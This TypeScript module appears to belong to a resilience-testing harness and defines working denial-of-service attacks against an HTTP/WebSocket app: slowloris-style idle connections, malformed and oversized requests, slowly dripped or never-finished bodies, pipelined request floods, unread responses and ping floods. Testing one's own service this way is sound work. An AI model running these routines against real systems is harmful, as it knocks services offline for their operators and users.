import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import type { Attack, World } from '../attack.ts'
import { anyNetwork, flood } from '../network.ts'

const MANY = 3_000

async function open({ url }: World, bytes: string): Promise<Socket> {
  const { hostname, port } = new URL(url)
  const socket = connect({
    host: hostname,
    port: Number(port),
    localAddress: anyNetwork(),
    allowHalfOpen: true,
  })
  socket.on('error', () => undefined)
  await Promise.race([once(socket, 'connect'), once(socket, 'close'), pause(2_000)])
  socket.write(bytes)
  return socket
}

/** Keeps that many connections, each of which has sent these bytes; those that are closed are opened anew. */
export async function keep(
  world: World,
  many: number,
  bytes: () => string,
  then?: (socket: Socket) => void,
): Promise<void> {
  const held = new Set<Socket>()
  while (!world.signal.aborted) {
    const missing = Array.from({ length: Math.min(50, many - held.size) }, () => open(world, bytes()))
    for (const socket of await Promise.all(missing)) {
      held.add(socket)
      socket.once('close', () => held.delete(socket))
      then?.(socket)
    }
    await pause(missing.length > 0 ? 10 : 200)
  }
}

/** Says nothing, or half of its headers (F11). */
export const idle: Attack = (world) => {
  let turn = 0
  return keep(world, MANY, () =>
    turn++ % 2 ? '' : 'GET /api/health HTTP/1.1\r\nHost: localhost\r\nX-Slow: ',
  )
}

/** No request at all, and the answer's end is not taken for one (F11). */
export const garbage: Attack = (world) => {
  const kinds = [
    '\0\r\n\r\n',
    'GET / HTTP/9.9\r\n\r\n',
    `GET / HTTP/1.1\r\nX: ${'y'.repeat(20_000)}\r\n\r\n`,
    '\x16\x03\x01\x02',
  ]
  let turn = 0
  return keep(world, MANY, () => kinds[turn++ % kinds.length] ?? '')
}

/** A body that comes a byte a second. */
export const slowBodies: Attack = (world) =>
  keep(
    world,
    500,
    () =>
      'POST /api/chat HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 9000\r\n\r\n{',
    (socket) => {
      const dripping = setInterval(() => socket.write(' '), 1_000)
      socket.once('close', () => clearInterval(dripping))
    },
  )

/** Bodies as large as may be, of which the last byte does not come: all that came lies in memory. */
export const heldBodies: Attack = (world) => {
  const paths = ['/api/chat', '/api/payments/webhook', '/api/request-files', '/nowhere']
  const part = 'x'.repeat(1_000_000)
  let turn = 0
  return keep(
    world,
    1_000,
    () =>
      `POST ${paths[turn++ % paths.length]} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n` +
      `Content-Length: ${part.length + 1}\r\n\r\n${part}`,
  )
}

/** Bodies without an end, each of which comes in together with the end of a whole one before it. */
export const bodiesBehind: Attack = (world) => {
  const piece = ' '.repeat(40_000)
  const head = (path: string, bytes: number) =>
    `POST ${path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer ${world.token}\r\n` +
    `Content-Type: multipart/form-data; boundary=x\r\nContent-Length: ${bytes}\r\n\r\n`
  const upload = head(`/api/tickets/${world.ticket}/upload`, 4_000_000_000)
  return keep(
    world,
    100,
    () => `${head('/api/chat', piece.length)}${piece}${upload}${piece}`,
    (socket) => {
      const send = () => {
        while (socket.write(piece));
      }
      socket.on('drain', send)
      send()
    },
  )
}

/** Asks for long answers over and over on each connection and reads none (F8, C29). */
export const unreadAnswers: Attack = (world) => {
  const head = `Host: localhost\r\nAuthorization: Bearer ${world.token}\r\n\r\n`
  const asked = ['/api/tickets', '/api/website-errors', `/api/tickets/${world.ticket}/messages`, '/']
  const bytes = asked.map((path) => `GET ${path} HTTP/1.1\r\n${head}`).join('')
  return keep(
    world,
    300,
    () => bytes.repeat(20),
    (socket) => void socket.pause(),
  )
}

/** Thousands of requests in one packet, which the router, Node or the library of sockets answers. */
export const packets: Attack = (world) => {
  const heads = [
    'GET / HTTP/1.1\r\n',
    'GET /%C0 HTTP/1.1\r\n',
    'GET / HTTP/1.1\r\nExpect: much\r\n',
    'GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\n',
    'OPTIONS * HTTP/1.1\r\n',
  ]
  let turn = 0
  return keep(
    world,
    20,
    () => `${heads[turn++ % heads.length]}Host: localhost\r\n\r\n`.repeat(2_000),
    (socket) => socket.resume(),
  )
}

const UPGRADE = [
  'GET /socket.io/?EIO=4&transport=websocket HTTP/1.1',
  'Host: localhost',
  'Upgrade: websocket',
  'Connection: Upgrade',
  'Sec-WebSocket-Version: 13',
  'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
  '',
  '',
].join('\r\n')
const PING = Buffer.from([0x89, 0x80, 0, 0, 0, 0])

/** Comes a thousand times a second, and each time uses up a budget that only this connection has. */
export const spentBudgets: Attack = (world) =>
  flood(world.signal, 100, async () => {
    const socket = await open(world, UPGRADE)
    await Promise.race([once(socket, 'data'), pause(1_000)])
    socket.write(Buffer.concat(Array(19).fill(PING)))
    await Promise.race([once(socket, 'data'), pause(1_000)])
    socket.resetAndDestroy()
  })
